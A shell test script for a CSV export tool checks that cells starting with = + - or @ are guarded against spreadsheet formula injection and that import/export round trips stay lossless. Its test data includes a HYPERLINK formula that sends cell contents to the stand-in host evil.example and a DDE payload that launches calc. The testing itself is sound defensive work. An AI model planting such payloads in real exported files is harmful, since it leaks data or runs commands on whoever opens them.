# 10-formula: sg-render -f csv wrote a partner's free-text note that began
# with = as it was, so the board's CSV ran =HYPERLINK(...) (or a DDE
# command) in Excel when opened.  Text cells that begin with = + - @ TAB
# or CR now get a single quote before them (OWASP); numbers (-5, +30,
# -9.5%) stay numbers; --raw writes them as they are.  And the round trip
# of item 9: sg-import | sg-render -f csv | sg-import is the identity, the
# symbols x z c low included (they were written / N/A * low).
note='=HYPERLINK("http://evil.example/?"&A1,"Click")'
{ cat "$SAMPLES/returns/ruh.csv"
  printf '9.9,Hostile row,RUH,-5,"%s"\r\n' "${note//\"/\"\"}"
  printf '9.8,Another,RUH,+30,@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0\r\n'
  printf '9.7,Nil return,RUH,x,-\r\n'; } >ruh.csv
sg-import ruh.csv >ruh.tsv
sg-render -f csv ruh.tsv >board.csv
tr -d '\r' <board.csv >board.lf
like "$(grep '^9\.9,' board.lf)" "^9\\.9,Hostile row,RUH,-5,\"'=HYPERLINK" \
    "a note beginning = is written after a quote; -5 stays a number"
like "$(grep '^9\.8,' board.lf)" "^9\\.8,Another,RUH,\\+30,'@SUM" \
    "+30 stays a number, a note beginning @ is guarded"
is "$(grep '^9\.7,' board.lf)" "9.7,Nil return,RUH,x,'-" \
    "x is written as x (not /), a lone - is guarded"
sg-import board.csv >back.tsv
is "$(cut -f5 back.tsv | grep -c '^[=+@-]')" 0 \
    "no cell of the notes, as a spreadsheet reads it, begins with = + - or @"
sg-render -f csv --raw ruh.tsv | sg-import >raw.tsv
same_file raw.tsv ruh.tsv "--raw: the stream comes back whole through sg-import"

# The round trip on the samples as shipped (no cell needs a guard there).
for f in "$SAMPLES"/adults/concerns.csv "$SAMPLES"/returns/*.csv; do
	sg-import "$f" >a.tsv 2>/dev/null || continue
	sg-render -f csv a.tsv | sg-import >b.tsv
	cmp -s a.tsv b.tsv || echo "${f##*/}"
done >differ
is "$(cat differ)" "" "sg-import | sg-render -f csv | sg-import is the identity on the samples"
